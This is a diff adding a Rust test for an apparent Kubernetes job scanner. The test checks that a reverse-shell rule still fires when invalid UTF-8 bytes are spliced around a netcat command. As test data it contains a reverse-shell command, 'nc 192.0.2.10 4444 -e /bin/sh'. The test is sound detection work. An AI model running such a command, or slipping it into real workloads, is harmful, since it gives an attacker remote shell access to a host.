@@ -277,3 +277,30 @@ fn thousands_of_containers_are_all_counted_and_the_report_is_small() {
     assert_eq!(status["findingsOmitted"], total - listed);
     assert!(listed > 0 && report.to_string().len() <= MAX_REPORT_BYTES, "{}", report.to_string().len());
 }
+
+#[test]
+fn d07_bytes_that_are_no_text_hide_nothing_beside_them() {
+    let plane = begin("bytes");
+    Jobrisk::shared();
+    let shell = "nc 192.0.2.10 4444 -e /bin/sh";
+    for (name, script, is_shell) in [
+        ("behind", format!("{shell} # BYTES"), true),
+        ("before", format!("echo BYTES; {shell}"), true),
+        // The API server stores U+FFFD for each, and that is what a node would run: no `nc`.
+        ("within", shell.replace("nc ", "nBYTESc "), false),
+    ] {
+        let json = job("bytes", name, &["/bin/sh", "-c", &script]).to_string();
+        let (before, after) = json.split_once("BYTES").unwrap();
+        let body = [before.as_bytes(), b"\xff\xfe\xc0\xaf\xed\xa0\x80", after.as_bytes()].concat();
+        let file = plane.dir().join(format!("bytes-{name}.json"));
+        std::fs::write(&file, body).unwrap();
+        let path = "/apis/batch/v1/namespaces/bytes/jobs";
+        plane.kubectl_ok(&["create", "--raw", path, "-f", &file.display().to_string()]);
+        let stored = plane.kubectl_ok(&["get", "--raw", &format!("{path}/{name}")]);
+        assert!(stored.contains('\u{fffd}'), "{stored}");
+        let report = wait_for_report(plane, "bytes", &format!("job-{name}"), |_| true);
+        let found = rules(&report).contains(&"cmd-reverse-shell".to_owned());
+        assert_eq!(found, is_shell, "{name}: {report:#}");
+        assert!(!rules(&report).contains(&"evd-unreadable".to_owned()), "{name}: {report:#}");
+    }
+}
